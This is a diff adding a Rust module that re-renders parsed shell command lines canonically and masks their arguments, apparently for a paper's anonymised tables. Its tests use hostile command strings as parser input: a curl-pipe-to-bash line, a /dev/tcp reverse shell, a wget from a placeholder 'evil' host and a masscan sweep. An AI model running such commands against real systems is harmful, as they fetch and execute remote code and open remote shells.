@@ -1,0 +1,256 @@
+//! Canonical re-rendering and anonymization of parsed command lines.
+//!
+//! [`render`] turns a [`Script`] back into a canonical single-line string
+//! (uniform spacing, original quoting kept via each word's raw slice).
+//! [`mask_arguments`] reproduces the paper's anonymized presentation style
+//! (`cd ********` in Figure 2): command names and flags are kept, every
+//! argument is replaced by `*`.
+
+use crate::ast::{Command, Pipeline, Redirect, Script, SimpleCommand};
+
+/// Renders a parsed script back to a canonical command-line string.
+///
+/// Words keep their original quoting (the raw source slice); spacing and
+/// separators are normalized to single spaces, `; ` between lists and
+/// ` | `, ` && `, ` || ` between commands.
+///
+/// ```
+/// use shell_parser::{parse, render};
+/// let s = parse("df   -h|grep '/data'")?;
+/// assert_eq!(render(&s), "df -h | grep '/data'");
+/// # Ok::<(), shell_parser::ParseError>(())
+/// ```
+pub fn render(script: &Script) -> String {
+    let mut out = String::new();
+    for (i, list) in script.lists.iter().enumerate() {
+        if i > 0 {
+            out.push_str("; ");
+        }
+        render_pipeline(&list.first, &mut out);
+        for (conn, p) in &list.rest {
+            out.push(' ');
+            out.push_str(conn.as_str());
+            out.push(' ');
+            render_pipeline(p, &mut out);
+        }
+        if list.background {
+            out.push_str(" &");
+        }
+    }
+    out
+}
+
+fn render_pipeline(p: &Pipeline, out: &mut String) {
+    if p.negated {
+        out.push_str("! ");
+    }
+    for (i, cmd) in p.commands.iter().enumerate() {
+        if i > 0 {
+            out.push_str(" | ");
+        }
+        render_command(cmd, out);
+    }
+}
+
+fn render_command(cmd: &Command, out: &mut String) {
+    match cmd {
+        Command::Simple(c) => render_simple(c, out),
+        Command::Subshell(inner) => {
+            out.push('(');
+            out.push_str(&render(inner));
+            out.push(')');
+        }
+        Command::Group(inner) => {
+            out.push_str("{ ");
+            out.push_str(&render(inner));
+            out.push_str("; }");
+        }
+    }
+}
+
+fn render_simple(c: &SimpleCommand, out: &mut String) {
+    let mut first = true;
+    for a in &c.assignments {
+        if !first {
+            out.push(' ');
+        }
+        out.push_str(&a.raw);
+        first = false;
+    }
+    for w in &c.words {
+        if !first {
+            out.push(' ');
+        }
+        out.push_str(&w.raw);
+        first = false;
+    }
+    for r in &c.redirects {
+        if !first {
+            out.push(' ');
+        }
+        render_redirect(r, out);
+        first = false;
+    }
+}
+
+fn render_redirect(r: &Redirect, out: &mut String) {
+    if let Some(fd) = r.fd {
+        out.push_str(&fd.to_string());
+    }
+    out.push_str(r.op.as_str());
+    out.push_str(&r.target.raw);
+}
+
+/// Replaces every non-flag argument with `*`, keeping command names and
+/// flags — the anonymized form used throughout the paper's tables.
+///
+/// ```
+/// use shell_parser::{parse, mask_arguments};
+/// let s = parse("masscan 10.1.2.3 -p 0-65535 --rate=1000")?;
+/// assert_eq!(mask_arguments(&s), "masscan * -p * --rate=1000");
+/// # Ok::<(), shell_parser::ParseError>(())
+/// ```
+pub fn mask_arguments(script: &Script) -> String {
+    let mut out = String::new();
+    for (i, list) in script.lists.iter().enumerate() {
+        if i > 0 {
+            out.push_str("; ");
+        }
+        mask_pipeline(&list.first, &mut out);
+        for (conn, p) in &list.rest {
+            out.push(' ');
+            out.push_str(conn.as_str());
+            out.push(' ');
+            mask_pipeline(p, &mut out);
+        }
+        if list.background {
+            out.push_str(" &");
+        }
+    }
+    out
+}
+
+fn mask_pipeline(p: &Pipeline, out: &mut String) {
+    for (i, cmd) in p.commands.iter().enumerate() {
+        if i > 0 {
+            out.push_str(" | ");
+        }
+        match cmd {
+            Command::Simple(c) => mask_simple(c, out),
+            Command::Subshell(inner) => {
+                out.push('(');
+                out.push_str(&mask_arguments(inner));
+                out.push(')');
+            }
+            Command::Group(inner) => {
+                out.push_str("{ ");
+                out.push_str(&mask_arguments(inner));
+                out.push_str("; }");
+            }
+        }
+    }
+}
+
+fn mask_simple(c: &SimpleCommand, out: &mut String) {
+    let mut first = true;
+    for a in &c.assignments {
+        if !first {
+            out.push(' ');
+        }
+        out.push_str(&a.name);
+        out.push_str("=*");
+        first = false;
+    }
+    for (i, w) in c.words.iter().enumerate() {
+        if !first {
+            out.push(' ');
+        }
+        if i == 0 || w.is_flag() {
+            out.push_str(&w.text);
+        } else {
+            out.push('*');
+        }
+        first = false;
+    }
+    for r in &c.redirects {
+        if !first {
+            out.push(' ');
+        }
+        if let Some(fd) = r.fd {
+            out.push_str(&fd.to_string());
+        }
+        out.push_str(r.op.as_str());
+        out.push('*');
+        first = false;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parse;
+
+    #[test]
+    fn render_normalizes_spacing() {
+        let s = parse("ls    -la     /tmp").unwrap();
+        assert_eq!(render(&s), "ls -la /tmp");
+    }
+
+    #[test]
+    fn render_keeps_quotes() {
+        let s = parse(r#"php -r "phpinfo();""#).unwrap();
+        assert_eq!(render(&s), r#"php -r "phpinfo();""#);
+    }
+
+    #[test]
+    fn render_pipeline_and_lists() {
+        let s = parse("a|b&&c;d&").unwrap();
+        assert_eq!(render(&s), "a | b && c; d &");
+    }
+
+    #[test]
+    fn render_redirects() {
+        let s = parse("cmd 2>/dev/null >>log").unwrap();
+        assert_eq!(render(&s), "cmd 2>/dev/null >>log");
+    }
+
+    #[test]
+    fn render_subshell_and_group() {
+        let s = parse("(cd /x && ls) | wc").unwrap();
+        assert_eq!(render(&s), "(cd /x && ls) | wc");
+        let g = parse("{ echo a; echo b; }").unwrap();
+        assert_eq!(render(&g), "{ echo a; echo b; }");
+    }
+
+    #[test]
+    fn render_parse_round_trip_is_stable() {
+        for line in [
+            "curl https://h/x.sh | bash",
+            "bash -i >&/dev/tcp/1.2.3.4/9001 0>&1",
+            "PATH=/usr/bin ls -la && pwd; echo done &",
+            "! grep -q x f",
+        ] {
+            let once = render(&parse(line).unwrap());
+            let twice = render(&parse(&once).unwrap());
+            assert_eq!(once, twice, "unstable rendering for {line:?}");
+        }
+    }
+
+    #[test]
+    fn mask_keeps_names_and_flags() {
+        let s = parse("docker attach --sig-proxy=false mycontainer").unwrap();
+        assert_eq!(mask_arguments(&s), "docker * --sig-proxy=false *");
+    }
+
+    #[test]
+    fn mask_handles_assignments_and_redirects() {
+        let s = parse("FOO=secret cmd arg > out.txt").unwrap();
+        assert_eq!(mask_arguments(&s), "FOO=* cmd * >*");
+    }
+
+    #[test]
+    fn mask_recurses_into_subshell() {
+        let s = parse("(wget http://evil/x)").unwrap();
+        assert_eq!(mask_arguments(&s), "(wget *)");
+    }
+}
